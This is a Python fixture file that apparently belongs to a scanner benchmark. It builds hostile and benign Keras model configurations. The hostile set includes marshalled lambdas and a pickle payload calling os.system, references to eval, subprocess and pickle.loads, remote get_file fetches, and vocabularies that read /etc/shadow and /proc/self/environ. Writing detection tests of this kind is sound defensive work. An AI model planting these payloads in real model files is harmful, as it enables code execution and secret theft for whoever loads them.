"""Keras configurations, hostile and honest; used by the families that carry them."""

from __future__ import annotations

import base64
import marshal

from bench.corpus.unit import COMMAND
from bench.corpus.writers import opcodes as op

Json = dict[str, object]


CODE = f"__import__('os').system('{COMMAND}')"


EVIL = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))


def lambda_code(source: str = f"lambda x: {CODE} or x") -> str:
    """A function's code as Keras stores it: marshalled, in base 64."""
    code = compile(source, "<model>", "eval").co_consts[0]
    return base64.encodebytes(marshal.dumps(code)).decode()


def layer(
    kind: str,
    name: str,
    module: str = "keras.layers",
    registered: str | None = None,
    **config: object,
) -> Json:
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
        "registered_name": registered,
        "build_config": {"input_shape": [None, 4]},
    }


def function(module: str, name: str) -> Json:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def dense(**config: object) -> Json:
    made = layer("Dense", "dense", units=4, activation="relu", use_bias=True)
    made["config"] = {"name": "dense", "units": 4, "activation": "relu", "use_bias": True, **config}
    return made


def sequential(*layers: Json, **more: object) -> Json:
    first: Json = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [first, *layers],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "compile_config": {"optimizer": "adam", "loss": "mse", "metrics": ["mae"]},
        **more,
    }


def hostile_configs() -> dict[tuple[str, str], Json]:
    """Configurations that run, fetch or read when they are deserialised, by technique, variant."""
    lam = {
        "class_name": "__lambda__",
        "config": {"code": lambda_code(), "defaults": None, "closure": None},
    }
    simple = layer("Lambda", "lambda", function=lam, arguments={})
    system = function("os", "system")
    get_file = layer(
        "Lambda",
        "fetch",
        function=function("keras.utils", "get_file"),
        arguments={"fname": "x", "origin": "http://example.invalid/x"},
    )
    torch_module = base64.b64encode(EVIL).decode()
    nested = sequential(simple)
    return {
        ("lambda", "plain"): sequential(dense(), simple),
        ("lambda", "nested-model"): sequential(dense(), nested),
        ("lambda", "time-distributed"): sequential(layer("TimeDistributed", "td", layer=simple)),
        ("lambda", "bidirectional"): sequential(
            layer("Bidirectional", "bi", layer=simple, backward_layer=simple)
        ),
        ("lambda", "old-list"): sequential(
            layer("Lambda", "l", function=[lambda_code(), None, None], function_type="lambda")
        ),
        ("lambda", "output-shape"): sequential(
            layer("Lambda", "l", function=function("builtins", "abs"), output_shape=lam)
        ),
        ("lambda", "activation"): sequential(dense(kernel_initializer=lam)),
        ("lambda", "loss"): {
            **sequential(dense()),
            "compile_config": {"loss": lam, "optimizer": "adam"},
        },
        ("module-reference", "lambda-os-system"): sequential(
            layer("Lambda", "l", function=system, arguments={"command": COMMAND})
        ),
        ("module-reference", "activation-eval"): sequential(
            dense(kernel_regularizer=function("builtins", "eval"))
        ),
        ("module-reference", "subprocess"): sequential(
            layer(
                "Lambda", "l", function=function("subprocess", "run"), arguments={"args": ["true"]}
            )
        ),
        ("module-reference", "layer-class"): sequential(
            layer("Popen", "p", module="subprocess", args=["true"])
        ),
        ("module-reference", "metric"): {
            **sequential(dense()),
            "compile_config": {"metrics": [function("runpy", "run_path")]},
        },
        ("module-reference", "optimizer"): {
            **sequential(dense()),
            "compile_config": {
                "optimizer": {
                    "module": "importlib",
                    "class_name": "import_module",
                    "config": {"name": "antigravity"},
                    "registered_name": None,
                }
            },
        },
        ("module-reference", "top-level"): {
            "module": "os",
            "class_name": "system",
            "config": {"command": COMMAND},
            "registered_name": None,
        },
        ("module-reference", "pickle-loads"): sequential(
            layer("Lambda", "l", function=function("pickle", "loads"))
        ),
        ("module-reference", "keras-internal"): sequential(
            layer(
                "Lambda",
                "l",
                function=function("keras.src.utils.file_utils", "extract_archive"),
                arguments={"file_path": "/tmp/x.tar", "path": "/"},
            )
        ),
        ("module-reference", "load-model"): sequential(
            layer(
                "Lambda",
                "l",
                function=function("keras.models", "load_model"),
                arguments={"safe_mode": False},
            )
        ),
        ("module-reference", "enable-unsafe"): sequential(
            layer("Lambda", "l", function=function("keras.config", "enable_unsafe_deserialization"))
        ),
        ("get-file", "lambda"): sequential(get_file),
        ("get-file", "initializer"): sequential(
            dense(bias_initializer=function("keras.utils", "get_file"))
        ),
        ("file-read", "string-lookup"): sequential(
            layer("StringLookup", "s", vocabulary="/etc/passwd", max_tokens=None)
        ),
        ("file-read", "text-vectorization"): sequential(
            layer("TextVectorization", "t", vocabulary="../../../etc/shadow")
        ),
        ("file-read", "integer-lookup-url"): sequential(
            layer("IntegerLookup", "i", vocabulary="http://example.invalid/v.txt")
        ),
        ("file-read", "nested"): sequential(
            sequential(layer("StringLookup", "s", vocabulary="/proc/self/environ"))
        ),
        ("torch-module", "wrapper"): sequential(
            layer("TorchModuleWrapper", "t", module=f"keras.{'layers'}")
            | {"config": {"name": "t", "module": torch_module}}
        ),
        ("torch-module", "old-path"): sequential(
            {
                **layer("TorchModuleWrapper", "t", module="keras.src.utils.torch_utils"),
                "config": {"module": torch_module, "name": "t"},
            }
        ),
        ("saved-model-layer", "tfsm"): sequential(
            layer("TFSMLayer", "t", filepath="/tmp/saved_model", call_endpoint="serve")
        ),
    }


def honest_configs() -> dict[str, Json]:
    initializer = {
        "module": "keras.initializers",
        "class_name": "GlorotUniform",
        "config": {"seed": None},
        "registered_name": None,
    }
    custom = layer(
        "RotaryEmbedding",
        "rope",
        module="keras_hub.layers",
        registered="keras_hub>RotaryEmbedding",
        max_wavelength=10000,
    )
    mine = layer("Gate", "gate", module="my_project.layers", registered="my_project>Gate", units=4)
    functional: Json = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "layers": [
                dense()
                | {
                    "inbound_nodes": [
                        {
                            "args": [
                                {
                                    "class_name": "__keras_tensor__",
                                    "config": {
                                        "shape": [None, 4],
                                        "dtype": "float32",
                                        "keras_history": ["input", 0, 0],
                                    },
                                }
                            ],
                            "kwargs": {},
                        }
                    ],
                }
            ],
            "input_layers": [["input", 0, 0]],
            "output_layers": [["dense", 0, 0]],
        },
        "registered_name": "Functional",
    }
    optimizer = {
        "module": "keras.optimizers",
        "class_name": "AdamW",
        "config": {
            "learning_rate": {
                "module": "keras.optimizers.schedules",
                "class_name": "CosineDecay",
                "config": {"initial_learning_rate": 1e-3},
                "registered_name": None,
            }
        },
        "registered_name": None,
    }
    return {
        "dense": sequential(dense(kernel_initializer=initializer)),
        "conv": sequential(
            layer("Conv2D", "c", filters=8, kernel_size=[3, 3]), layer("Flatten", "f"), dense()
        ),
        "text": sequential(
            layer("Embedding", "e", input_dim=99, output_dim=4),
            layer("Bidirectional", "b", layer=layer("LSTM", "l", units=4)),
            dense(),
        ),
        "dtype-policy": sequential(
            dense(
                dtype={
                    "module": "keras",
                    "class_name": "DTypePolicy",
                    "config": {"name": "mixed_float16"},
                    "registered_name": None,
                }
            )
        ),
        "vocabulary": sequential(
            layer("StringLookup", "s", vocabulary=["a", "b"], num_oov_indices=1), dense()
        ),
        "vectorization": sequential(
            layer(
                "TextVectorization",
                "t",
                max_tokens=100,
                standardize="lower_and_strip_punctuation",
                vocabulary=None,
            )
        ),
        "functional": functional,
        "compiled": {
            **sequential(dense()),
            "compile_config": {
                "optimizer": optimizer,
                "loss": "categorical_crossentropy",
                "metrics": ["accuracy"],
            },
        },
        "hub-layer": sequential(custom),
        "own-layer": sequential(mine),
        "activation-function": sequential(
            dense(
                kernel_regularizer={
                    "module": "keras.regularizers",
                    "class_name": "L2",
                    "config": {"l2": 0.01},
                    "registered_name": None,
                }
            )
        ),
        "rescaling": sequential(
            layer("Rescaling", "r", scale=1 / 255),
            layer("RandomFlip", "f", mode="horizontal"),
            dense(),
        ),
        "builtin-function": sequential(
            layer("Activation", "a", activation=function("keras.activations", "gelu"))
        ),
        "system-as-text": sequential(
            layer("StringLookup", "s", vocabulary=["os.system", "eval", "/etc/passwd"]), dense()
        ),
    }
